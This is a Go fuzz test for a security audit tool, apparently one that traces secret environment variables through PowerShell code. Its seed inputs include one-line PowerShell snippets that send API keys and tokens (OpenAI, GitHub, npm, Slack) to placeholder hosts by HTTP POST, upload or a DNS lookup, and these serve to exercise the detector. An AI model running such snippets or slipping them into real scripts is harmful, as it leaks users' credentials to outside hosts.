package audit

import (
	"strings"
	"testing"
)

// FuzzPSEnvSend: no text stops the PowerShell statement reader or the
// secret-variable flow (unclosed quotes, here-strings and brackets,
// splats of nothing, functions calling themselves, variables built from
// themselves), and every statement, literal and argument it returns lies
// inside the text.
func FuzzPSEnvSend(f *testing.F) {
	for _, s := range []string{
		"$k = $env:OPENAI_API_KEY\n$b = @{\n  k = $k\n}\nInvoke-RestMethod -Uri 'https://x.example/a' -Method Post -Body ($b | ConvertTo-Json)\n",
		"function S { param([string] $P = 'x') irm $u -Body $P }\nS -P ${env:GITHUB_TOKEN}\n", "$p = @{ Uri = $u }; $p.Body = $env:NPM_TOKEN; irm @p",
		"$x = @\"\n$env:SLACK_TOKEN\n\"@\n$wc.UploadString(\"https://$h/x\", $x)", "$u = $u + '/x'\nirm $u -Body $env:GITHUB_TOKEN", "function f { f }\n$k = f",
		"\"$(\"$(\"$(", "@{", "irm @", "param(", "[Environment]::GetEnvironmentVariable($n", "$c.PostAsync(", "'unclosed", "@'\nx",
		"Resolve-DnsName \"$env:GITHUB_TOKEN.x\"", "foreach ($n in 'GITHUB_TOKEN') { $h[$n] = Get-Item \"env:$n\" }\nirm $h.Url -Body $h",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		p := readPS(code)
		for _, st := range p.stmts {
			if st.off < 0 || st.off+len(st.s) > len(code) || code[st.off:st.off+len(st.s)] != st.s {
				t.Fatalf("statement %q at %d is not the text's", st.s, st.off)
			}
		}
		for _, l := range p.lits {
			if l[0] < 0 || l[1] > len(code) || l[0] > l[1]+1 {
				t.Fatalf("literal span %v outside the text (%d bytes)", l, len(code))
			}
		}
		args, end := psCommandArgs(code, 0)
		if end > len(code) {
			t.Fatalf("arguments end at %d past the text", end)
		}
		for _, a := range args {
			if a.off < 0 || a.off > len(code) {
				t.Fatalf("argument %q at %d outside the text", a.value, a.off)
			}
		}
		psHashEntries(code)
		if i := strings.IndexByte(code, '('); i >= 0 {
			psCallArgs(code, i)
			psParams(code, i)
		}
		fl := &psEnvFlow{c: p, taint: map[string]psTaint{}, header: map[string]psTaint{}, ret: map[string]psTaint{},
			vals: map[string][]psBind{}, funcs: map[string][]psParam{}, member: map[string][]psBind{}, hostOf: map[string]psHosts{},
			splats: map[string][]psBind{}, data: []linkedFile{{rel: "x.psd1", text: code, data: true}}}
		fl.listNames()
		fl.run()
	})
}
